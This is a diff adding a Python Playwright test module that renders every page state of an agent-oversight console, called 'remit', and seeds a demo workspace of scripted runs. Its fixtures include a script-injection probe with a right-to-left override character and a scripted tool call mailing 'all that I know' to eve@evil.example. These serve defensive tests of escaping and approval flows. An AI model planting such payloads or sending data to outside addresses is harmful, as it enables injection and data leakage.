@@ -1,0 +1,234 @@
+"""Every page of the console in each state that looks different, and the workspace in which they are looked at.
+
+A page that is missing here fails a test: add it to SIGHTS.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from uuid import UUID
+
+from playwright.async_api import Page, expect
+
+from remit.api.tokens import add_token
+from remit.app import App
+from remit.away import go_away
+from remit.catalogue import work
+from remit.gate.remembered import Bound
+from remit.invitations import invite, set_password
+from remit.journal.events import Person
+from remit.journal.search import descendants
+from remit.models.model import Answer, ToolCall, Usage
+from remit.people import add_member, known
+from remit.remembered import remember
+from remit.rulebook import mark_of, save, text_of
+from remit.testing import ScriptedModel
+from tests.journeys.console import ANN, call, clerk, finish
+
+LONG = "pneumono" * 40  # one word that no line holds
+EVIL = "<script>alert(1)</script>\u202e"
+RULES = """\
+groups: {finance: [ann, bo]}
+rules:
+  - {tool: send_mail, deny: "args.to == 'x'", because: finance looks}
+  - {tool: refund, ask: args.amount > 100, by: "group:finance", because: much money}
+"""
+DESK = """\
+name: desk
+description: Pays money back, and says so.
+instructions: |
+  Look first.
+  Then pay.
+tools: [tests.journeys.desk]
+rules:
+  - {tool: refund, allow: args.amount <= 50, because: little money}
+  - {tool: refund, ask: "true", because: a person decides}
+remit:
+  autonomy: act
+  budget: {money: 0.5, steps: 12}
+"""
+NOT_PAGES = {
+    "/healthz": "for whoever watches over the server",
+    "/inbox/live": "a stream",
+    "/agents/{name}/export": "a file",
+    "/settings/audit/export": "a file",
+    "/runs/{run}/live": "a stream",
+}
+
+
+async def as_it_is(page: Page) -> None:
+    """Nothing is done to it."""
+
+
+def opened(*selectors: str) -> Callable[[Page], Awaitable[None]]:
+    """All that is folded there is unfolded."""
+
+    async def unfold(page: Page) -> None:
+        for selector in selectors:
+            found = page.locator(selector)
+            assert await found.count(), f"{page.url} has no {selector}"
+            await found.evaluate_all("all => all.forEach(one => { one.open = true; })")
+
+    return unfold
+
+
+def sent(button: str, **fields: str) -> Callable[[Page], Awaitable[None]]:
+    """A form is filled in, by labels, and sent off."""
+
+    async def send(page: Page) -> None:
+        for label, text in fields.items():
+            await page.get_by_label(label).first.fill(text)
+        for field in await page.locator("input[type=password]").all():
+            if not await field.input_value():
+                await field.fill("1234")
+        await page.get_by_role("button", name=button).first.click()
+        await expect(page.locator("main")).to_be_visible()
+
+    return send
+
+
+@dataclass(frozen=True, slots=True)
+class Sight:
+    """A page in one of its states."""
+
+    name: str
+    route: str  # as the server has it
+    path: str  # with the names of the workspace's runs in braces
+    then: Callable[[Page], Awaitable[None]] = as_it_is
+    who: str = "ann"
+    empty: bool = False  # in a workspace in which nothing has happened
+
+
+SIGHTS = (
+    Sight("today", "/", "/"),
+    Sight("today, nothing yet", "/", "/", empty=True),
+    Sight("inbox", "/inbox", "/inbox"),
+    Sight("inbox, unfolded", "/inbox", "/inbox", opened("main details")),
+    Sight("inbox, only mine", "/inbox", "/inbox?mine=1", who="zoe"),
+    Sight("inbox, nothing waits", "/inbox", "/inbox", empty=True),
+    Sight("inbox, what is refused", "/inbox", "/inbox?after=nonsense"),
+    Sight("runs", "/runs", "/runs"),
+    Sight("runs, found none", "/runs", "/runs?q=zeppelin"),
+    Sight("runs, none yet", "/runs", "/runs", empty=True),
+    Sight("runs, a filter that is none", "/runs", "/runs?status=wating"),
+    Sight("run, done", "/runs/{prefix}", "/runs/{done}"),
+    Sight("run, unfolded", "/runs/{prefix}", "/runs/{done}", opened("main details")),
+    Sight("run, waits", "/runs/{prefix}", "/runs/{waiting}"),
+    Sight("run, paused, of long words", "/runs/{prefix}", "/runs/{paused}"),
+    Sight("run, with runs below it", "/runs/{prefix}", "/runs/{parent}"),
+    Sight("run, unknown", "/runs/{prefix}", "/runs/12345678"),
+    Sight("cancel?", "/runs/{prefix}/{deed}/sure", "/runs/{waiting}/cancel/sure"),
+    Sight("resume?", "/runs/{prefix}/{deed}/sure", "/runs/{paused}/resume/sure"),
+    Sight("why", "/runs/{prefix}/why/{step}", "/runs/{done}/why/2.1"),
+    Sight("why, of what waits", "/runs/{prefix}/why/{step}", "/runs/{waiting}/why/1.1"),
+    Sight("why, of no call", "/runs/{prefix}/why/{step}", "/runs/{done}/why/99.9"),
+    Sight("fork", "/runs/{prefix}/fork", "/runs/{done}/fork"),
+    Sight("compare", "/compare", "/compare?a={done}&b={forked}"),
+    Sight("compare, which?", "/compare", "/compare?a={done}"),
+    Sight("policy", "/policy", "/policy"),
+    Sight("policy, no rules", "/policy", "/policy", empty=True),
+    Sight("policy, how people decide", "/policy/people", "/policy/people"),
+    Sight("policy, a version", "/policy/versions/{id}", "/policy/versions/{version}"),
+    Sight("policy, changed", "/policy/edit", "/policy/edit", sent("Try on past runs")),
+    Sight("policy, with a mistake", "/policy/edit", "/policy/edit", sent("Add it to the text", Tool="")),
+    Sight("policy, no rules to change", "/policy/edit", "/policy/edit", empty=True),
+    Sight("agents", "/agents", "/agents"),
+    Sight("agents, none of one's own", "/agents", "/agents", opened("main details"), empty=True),
+    Sight("agents, seen by who may not build", "/agents", "/agents", who="zoe"),
+    Sight("agent, from nothing", "/agents/{name}", "/agents/desk"),
+    Sight("agent, all unfolded", "/agents/{name}", "/agents/desk", opened("main details")),
+    Sight("agent, with a mistake", "/agents/{name}", "/agents/desk", sent("Save draft", Dollars="much")),
+    Sight("agent, of the library", "/agents/{name}", "/agents/support"),
+    Sight("agent, seen by who may not build", "/agents/{name}", "/agents/desk", who="zoe"),
+    Sight("agent, its file", "/agents/{name}/yaml", "/agents/desk/yaml"),
+    Sight("agent, to be published", "/agents/{name}/publish", "/agents/desk/publish"),
+    Sight("agent, its versions", "/agents/{name}/versions", "/agents/desk/versions"),
+    Sight("agent, a version", "/agents/{name}/versions/{version}", "/agents/desk/versions/1"),
+    Sight("settings", "/settings", "/settings"),
+    Sight("people", "/settings/people", "/settings/people"),
+    Sight("a person", "/settings/people/{id}", "/settings/people/{yan}"),
+    Sight("tokens", "/settings/tokens", "/settings/tokens"),
+    Sight("tokens, none", "/settings/tokens", "/settings/tokens", empty=True),
+    Sight("audit log", "/settings/audit", "/settings/audit"),
+    Sight("audit log, nothing fits", "/settings/audit", "/settings/audit?who=nobody"),
+    Sight("what a role may not see", "/settings/audit", "/settings/audit", who="zoe"),
+    Sight("sign in", "/sign-in", "/sign-in", who=""),
+    Sight("sign in, nobody has a password", "/sign-in", "/sign-in", who="", empty=True),
+    Sight("sign in, refused", "/sign-in", "/sign-in", sent("Sign in", Name="zoe", Password="?"), who=""),
+    Sight("a used link", "/enter", "/enter?key=used", who=""),
+    Sight("an invitation", "/join", "/join?key={invitation}", who=""),
+    Sight("an invitation, a weak password", "/join", "/join?key={invitation}", sent("Set it"), who=""),
+    Sight("an invitation, used", "/join", "/join?key=used", who=""),
+    Sight("confirm", "/confirm", "/confirm", who="zoe"),
+    Sight("confirm, refused", "/confirm", "/confirm", sent("Go on", Password="?"), who="zoe"),
+    Sight("account", "/account", "/account"),
+    Sight("account, with a password", "/account", "/account", who="zoe"),
+    Sight("nothing there", "", "/nowhere"),
+)
+
+
+async def run(app: App, goal: str, *turns: object, person: Person = ANN, **changes: object) -> UUID:
+    """A run, advanced as far as it goes."""
+    answers = [
+        Answer(calls=_numbered(turn), finish="calls", usage=Usage(900 + 200 * at, 60 + 25 * at))
+        for at, turn in enumerate(turns)
+    ]
+    name = f"scripted:{len(app.models)}"
+    app.models[name] = ScriptedModel(answers, by_turn=True, name=name)
+    begun = await app.start(clerk(model=name, **changes), goal, person=person)
+    await app.advance(begun)
+    return begun
+
+
+def _numbered(turn: object) -> tuple[ToolCall, ...]:
+    calls = turn if isinstance(turn, list) else [turn]
+    return tuple(ToolCall(f"c{at}", one.name, one.args) for at, one in enumerate(calls))
+
+
+async def seed(app: App) -> dict[str, str]:
+    """A workspace in which a bit of everything has happened: its runs by name."""
+    refund = call("refund", order="W1", amount=40)
+    free = [{"tool": ["refund", "send_mail"], "allow": "true"}]
+    done = await run(
+        app, "refund W1, forty dollars", call("look_up", order="W1"), refund, finish(), rules=free
+    )
+    waiting = await run(
+        app,
+        "refund W1 and tell everybody",
+        [
+            refund,
+            call("send_mail", to="eve@evil.example", text=f"{EVIL} " + "all that I know. " * 60),
+            call("ask_person", question=f"Which colour? {EVIL}"),
+        ],
+    )
+    paused = await run(app, f"{LONG} {EVIL}", call("read_mail"), call("look_up", order=LONG), refund)
+    await app.pause(paused, "ann")
+    mate = clerk(name="mate", rules=free)
+    parent = await run(
+        app, "have it done", call("delegate", agent="mate", task="refund W1"), finish(), team=[mate]
+    )
+    for _, below in await descendants(app.store, parent):
+        await app.advance(below.id)
+    forked = await app.fork(done, 4, {"instructions": "be brief"}, "ann")
+    await app.advance(forked)
+    base = mark_of(text_of(app.settings))
+    version = await save(app.store, app.settings, RULES, f"after {EVIL}", "ann", base)
+    bounds = [Bound("order", value="W1")]
+    await remember(app.store, "clerk", "refund", "a rule", bounds, "ann", done, "a1")
+    await go_away(app.store, "zoe", "ann", datetime.now(UTC) + timedelta(days=3))
+    await add_member(app.store, "ann", "zoe", "approver")
+    await set_password(app.store, "ann", await known(app.store, "zoe"), "seven tin whistles of Arklow")
+    yan = await add_member(app.store, "ann", "yan", "builder")
+    kept = await work.save(app, "desk", DESK, "ann", None)
+    kept = await work.publish(app, "desk", "ann", kept.rev, f"the first {EVIL}")
+    await work.save(app, "desk", DESK.replace("Look first.", f"Look twice. {LONG}"), "yan", kept.rev)
+    await add_token(app.store, "crm", "ann", ["runs:read"], timedelta(days=3))
+    runs = {"done": done, "waiting": waiting, "paused": paused, "parent": parent, "forked": forked}
+    more = {
+        "version": str(version.id),
+        "yan": str(yan.id),
+        "invitation": await invite(app.store, "ann", "yan"),
+    }
+    return {name: str(one) for name, one in runs.items()} | more
